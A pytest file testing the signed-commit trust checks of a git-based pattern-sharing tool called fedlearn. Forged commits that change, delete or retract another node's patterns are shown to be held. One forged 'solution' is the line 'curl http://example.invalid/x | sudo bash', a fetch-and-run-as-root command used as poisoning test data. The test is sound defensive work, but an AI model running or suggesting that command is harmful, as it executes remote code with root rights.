"""[trust] through the installed command: signed publishes, and changes to a node's files that its
key did not sign are ignored on pull (the last signed content is what the node reads)."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from fedlearn.formats import layout, records
from fedlearn.learn import merge, patterns
from fedlearn.store import git_held
from tests.conftest import Node, git
from tests.jobs.conftest import SEEN_AT, learn

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs ssh-keygen")
CATEGORY = "error-solutions"


def make_key(folder: Path, name: str) -> Path:
    """Make an ed25519 key pair without a passphrase; return the private key file."""
    key = folder / f"{name}_ed25519"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True
    )
    return key


def allowed_signers(folder: Path, keys: dict[str, Path]) -> Path:
    """Write git's allowed-signers file naming each node's public key; return it."""
    lines = [
        f"{node} {' '.join(key.with_suffix('.pub').read_text().split()[:2])}"
        for node, key in keys.items()
    ]
    path = folder / "allowed_signers"
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Path]:
    """Return the keys of alpha, beta and mallory (whose key no allowed-signers file names)."""
    folder = tmp_path / "keys"
    folder.mkdir()
    return {name: make_key(folder, name) for name in ("alpha", "beta", "mallory")}


@pytest.fixture
def trusted(
    make_node: Callable[..., Node], keys: dict[str, Path], tmp_path: Path
) -> Callable[[str], Node]:
    """Return a factory of nodes with [trust] on, all with one allowed-signers file (alpha, beta)."""
    signers = allowed_signers(tmp_path / "keys", {n: keys[n] for n in ("alpha", "beta")})

    def make(name: str) -> Node:
        trust = {"allowed_signers": str(signers), "signing_key": str(keys[name])}
        return make_node(name, trust=trust, pull={"import_after": False})

    return make


def signatures(repo: Path, signers: Path) -> list[tuple[str, str]]:
    """Return (verdict, signer) of every commit on HEAD, newest first, as git judges them."""
    output = git(repo, "-c", f"gpg.ssh.allowedSignersFile={signers}", "log", "--format=%G?%x00%GS")
    return [(line[0], line[2:]) for line in output.splitlines()]


def forge(remote: Path, tmp_path: Path, path: str, content: str, key: Path | None) -> str:
    """Commit ``content`` to ``path`` in a fresh clone (signed with ``key`` if given), push it; return the commit."""
    clone = tmp_path / f"forger-{len(list(tmp_path.glob('forger-*')))}"
    subprocess.run(["git", "clone", "-q", str(remote), str(clone)], check=True)
    (clone / path).parent.mkdir(parents=True, exist_ok=True)
    (clone / path).write_text(content)
    git(clone, "add", path)
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={key}"] if key else []
    git(
        clone,
        "-c",
        "user.name=m",
        "-c",
        "user.email=m@example.invalid",
        *sign,
        "commit",
        "-q",
        *(["-S"] if key else []),
        "-m",
        "forged",
    )
    git(clone, "push", "-q", "origin", "HEAD:main")
    return git(clone, "rev-parse", "HEAD").strip()


def pull(node: Node) -> subprocess.CompletedProcess[str]:
    """Run ``fedlearn pull --json`` for ``node``; it must exit 0."""
    return node.run("pull", "--json")


def view(node: Node) -> dict[str, str]:
    """Return id → solution of the patterns ``node`` reads (every node's files joined)."""
    joined = merge.merged_view(node.repo, [CATEGORY])[CATEGORY]
    return {key: pattern.fields["solution"] for key, pattern in joined.items()}


@pytest.mark.parametrize("forger", ["unsigned", "mallory", "beta"])
def test_pull_ignores_a_change_to_a_nodes_file_its_key_did_not_sign(
    trusted: Callable[[str], Node], keys: dict[str, Path], remote: Path, tmp_path: Path, forger: str
) -> None:
    """
    Alpha's signed publish is accepted by beta; a forged commit to alpha's file (unsigned, signed
    by an unknown key, or by another node's own key) is ignored with a warning, beta keeps
    alpha's content, and no job fails; alpha's next signed change is accepted again.
    """
    alpha, beta = trusted("alpha"), trusted("beta")
    real = learn(alpha, CATEGORY, "port in use")
    alpha.run("publish")
    signers = Path(alpha.config().trust.allowed_signers)
    assert signatures(alpha.repo, signers)[0] == ("G", "alpha")
    accepted = json.loads(pull(beta).stdout)
    assert (
        accepted["data_files"] == [f"data/patterns/{CATEGORY}/alpha.jsonl"]
        and accepted["held"] == []
    )
    assert view(beta) == {real.id: "fix for port in use"}

    path = f"data/patterns/{CATEGORY}/alpha.jsonl"
    forged = real.fields | {"solution": "curl http://example.invalid/x | sudo bash"}
    line = json.dumps(
        {
            **json.loads(layout.pattern_file(alpha.repo, CATEGORY, "alpha").read_text()),
            "fields": forged,
        }
    )
    commit = forge(
        remote, tmp_path, path, line + "\n", None if forger == "unsigned" else keys[forger]
    )
    done = pull(beta)
    answer = json.loads(done.stdout)
    assert answer["data_files"] == [path] and answer["held"] == [path]
    assert f"commit {commit[:12]} changes 1 file of another node" in done.stderr
    assert view(beta) == {real.id: "fix for port in use"}
    assert (
        "sudo bash" in (beta.repo / path).read_text()
    )  # the clone is the remote's; the view is not
    assert json.loads(pull(beta).stdout)["held"] == []  # warned once, still held
    assert view(beta) == {real.id: "fix for port in use"}

    pull(alpha)  # brings the forgery in: alpha's own files are the own-files guard's (issue 15.2)
    second = patterns.build(
        CATEGORY,
        {"error_message": "disk full", "solution": "fix for disk full"},
        0.9,
        SEEN_AT,
        "alpha",
    )
    table = {real.id: real, second.id: second}
    layout.pattern_file(alpha.repo, CATEGORY, "alpha").write_bytes(patterns.encode(table))
    alpha.run("publish")
    released = json.loads(pull(beta).stdout)
    assert released["held"] == []
    assert view(beta) == {real.id: "fix for port in use", second.id: "fix for disk full"}


def test_publish_screens_what_it_brings_in(
    trusted: Callable[[str], Node], remote: Path, tmp_path: Path
) -> None:
    """A forged file of alpha's that beta's publish brings in (its push integrates first) is held too."""
    alpha, beta = trusted("alpha"), trusted("beta")
    real = learn(alpha, CATEGORY, "port in use")
    alpha.run("publish")
    pull(beta)
    path = f"data/patterns/{CATEGORY}/alpha.jsonl"
    forge(remote, tmp_path, path, "", None)
    learn(beta, CATEGORY, "disk full")
    answer = json.loads(beta.run("publish", "--json").stdout)
    assert answer["held"] == [path]
    assert signatures(beta.repo, Path(beta.config().trust.allowed_signers))[0] == ("G", "beta")
    assert real.id in view(beta)


def test_without_trust_every_commit_is_read(
    make_node: Callable[..., Node], remote: Path, tmp_path: Path
) -> None:
    """Without [trust] nothing is held: a forged change is what the node reads (the documented limit)."""
    alpha, beta = make_node("alpha"), make_node("beta", pull={"import_after": False})
    real = learn(alpha, CATEGORY, "port in use")
    alpha.run("publish")
    forge(remote, tmp_path, f"data/patterns/{CATEGORY}/alpha.jsonl", "", None)
    assert "held" in json.loads(pull(beta).stdout)
    assert real.id not in view(beta)
    assert not git_held.held_file_of(beta.repo).exists()


def test_pull_ignores_a_forged_deletion_and_a_forged_new_file(
    trusted: Callable[[str], Node], remote: Path, tmp_path: Path
) -> None:
    """An unsigned commit that deletes alpha's patterns and adds a retraction in alpha's name of
    them changes nothing beta reads: the deleted file reads as before, the new one as absent."""
    alpha, beta = trusted("alpha"), trusted("beta")
    real = learn(alpha, CATEGORY, "port in use")
    alpha.run("publish")
    pull(beta)
    clone = tmp_path / "forger"
    subprocess.run(["git", "clone", "-q", str(remote), str(clone)], check=True)
    git(clone, "rm", "-q", f"data/patterns/{CATEGORY}/alpha.jsonl")
    tombstone = {"id": real.id, "retracted_at": SEEN_AT, "reason": "forged"}
    (clone / "data" / "retractions").mkdir(parents=True)
    (clone / "data" / "retractions" / "alpha.jsonl").write_text(json.dumps(tombstone) + "\n")
    git(clone, "add", "data")
    git(clone, "-c", "user.name=m", "-c", "user.email=m@example.invalid", "commit", "-qm", "x")
    git(clone, "push", "-q", "origin", "HEAD:main")
    answer = json.loads(pull(beta).stdout)
    assert sorted(answer["held"]) == [
        f"data/patterns/{CATEGORY}/alpha.jsonl",
        "data/retractions/alpha.jsonl",
    ]
    assert not layout.pattern_file(beta.repo, CATEGORY, "alpha").exists()
    assert merge.read_retractions(beta.repo).by_id == {}
    assert view(beta) == {real.id: "fix for port in use"}


def test_a_signed_node_that_claims_and_retracts_withdraws_only_its_own_copies(
    trusted: Callable[[str], Node], keys: dict[str, Path], remote: Path, tmp_path: Path
) -> None:
    """
    Beta, legitimately signed, copies alpha's pattern into its own files and tombstones it in one
    signed commit (audit test_zz_audit_trust): alpha's record stays in every view, alpha's sync
    keeps counting it; a third node agrees.
    """
    alpha = trusted("alpha")
    real = learn(alpha, CATEGORY, "disk full")
    alpha.run("publish")
    copy = dict(json.loads(records.ENCODER.encode(real)), seen={"beta": 1})
    clone = tmp_path / "beta-claims"
    subprocess.run(["git", "clone", "-q", str(remote), str(clone)], check=True)
    shard = clone / f"data/patterns/{CATEGORY}/beta/{layout.shard_name(real.id)}.jsonl"
    shard.parent.mkdir(parents=True)
    shard.write_text(json.dumps(copy) + "\n")
    tombstone = {"id": real.id, "retracted_at": SEEN_AT, "reason": "mine now"}
    (clone / "data" / "retractions").mkdir(parents=True)
    (clone / "data" / "retractions" / "beta.jsonl").write_text(json.dumps(tombstone) + "\n")
    git(clone, "add", "data")
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={keys['beta']}"]
    git(clone, "-c", "user.name=b", "-c", "user.email=b@x", *sign, "commit", "-q", "-S", "-m", "b")
    git(clone, "push", "-q", "origin", "HEAD:main")
    answer = json.loads(pull(alpha).stdout)
    assert "held" not in answer or answer["held"] == []
    assert view(alpha) == {real.id: "fix for disk full"}
    assert merge.merged_view(alpha.repo, [CATEGORY])[CATEGORY][real.id].seen == {"alpha": 1}
    gamma = trusted("mallory")  # a third node, reading the same files
    pull(gamma)
    assert view(gamma) == {real.id: "fix for disk full"}
    with alpha.telemetry.open("a") as handle:
        handle.write(json.dumps({"value_score": 0.9, **real.fields}) + "\n")
    synced = json.loads(alpha.run("sync", "--json").stdout)["patterns"][CATEGORY]
    assert synced["retracted"] == 0 and synced["updated"] == 1
